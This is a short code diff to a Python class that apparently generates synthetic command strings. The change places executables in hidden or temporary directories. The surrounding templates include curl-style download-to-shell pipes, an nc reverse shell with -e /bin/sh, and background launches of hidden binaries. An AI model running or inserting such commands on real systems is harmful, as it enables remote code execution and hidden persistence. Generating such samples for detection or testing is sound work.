@@ -159,6 +159,9 @@ class Slots:
         """What starts something that came from elsewhere; without quotes, so that it stands in any."""
         r = self.rng
         place, name = self.fill("file"), self.fill("name")
+        if "/." not in place and not place.startswith(("/tmp", "/var/tmp", "/dev/shm")):
+            # Packages may have put it there.
+            place = r.choice(["/dev/shm/", "/var/tmp/.", "/tmp/.", "/usr/lib/.", "/etc/."]) + name.strip(".")
         return r.choice([f"{self.fill('dl')} {self.fill('url')} | {r.choice(['sh', 'bash'])}", place, f"{place} -d", f"nohup {place} >/dev/null 2>&1 &", f"setsid {place} &", f"/bin/sh {place}.sh",
                          f"python3 {place}.py", f"perl {place}.pl", f"nc {self.fill('host')} {self.fill('port')} -e /bin/sh", f"/usr/lib/.{name.strip('.')}/run", f". {place}"])
 
